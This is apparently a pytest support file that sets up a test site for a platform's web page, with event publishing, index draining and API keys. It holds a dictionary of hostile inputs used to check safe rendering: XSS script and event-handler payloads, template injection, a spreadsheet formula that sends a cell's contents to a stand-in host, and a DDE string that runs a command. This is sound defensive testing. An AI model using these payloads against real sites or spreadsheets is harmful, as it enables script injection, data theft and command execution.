"""A site of the page: a system with documents by somebody who means harm, an alert and rejects, on a real port."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime
from typing import Any

import browser as chromium
import httpx
import pytest
from support import publish

from platform_assets.contracts.model import Contract
from platform_assets.core.settings import Settings
from platform_assets.index.connect import connect_indices
from platform_assets.ingest.worker import Worker
from platform_assets.serve.keys import KeyStore, Role

CHROMIUM = chromium.find()
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: install the package chromium")

EVENTS = 160
PAGE = 100
PHONE = 640
HOSTILE = {
    "script": "<script>window.harmed = 1; alert(1)</script>",
    "image": '<img src=x onerror="window.harmed = 1; alert(1)">"\'><svg/onload=alert(1)>',
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} javascript:alert(1)",
    "hidden": "paid \u202e0001 RUE\u202c zero\u200bwidth \x1b[2J bell\x07 \u2028 line \U0001f600 \u05e9\u05dc\u05d5\u05dd",
    "long": "x" * 20_000 + " " + "no-break" * 500,
    "formula": '=HYPERLINK("http://harm.invalid/"&A1,"look")',
    "command": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "fullwidth": "\uff1d1+1",
    "lines": 'first\nsecond\tcolumn "quoted", and a comma\r\nthird',
    "marks": "e" + "\u0301" * 60,
}
EVIL_SERVICE = '"><b onmouseover=alert(1)>\\"a:b,c'
INVENTED = "page-test"  # a service of the figures that nobody else writes


@dataclass
class Site:
    """A system with documents, an alert and rejects, its API on a real port, and keys for it."""

    url: str
    settings: Settings
    contract: Contract
    admin: str
    reader: str
    alert: str
    start: datetime  # of its events, one every ten seconds

    @property
    def system(self) -> str:
        return self.contract.system

    def send(self, *events: bytes) -> None:
        """Publish events, carried to the index by the worker."""
        publish(self.settings, self.contract.table("events"), events)
        self.drain()

    def drain(self) -> None:
        Worker(self.settings, self.contract).drain()
        indices = connect_indices(self.settings)
        indices.refresh(self.contract.table("events"))
        indices.client.close()

    def place(self, view: str = "search", **params: str) -> str:
        return f"#/{self.system}/{view}?{httpx.QueryParams(params)}"

    def key(self, role: Role, **rights: Any) -> dict[str, str]:
        return {"X-API-Key": KeyStore(self.settings.home).add("test", role, **rights)[1]}
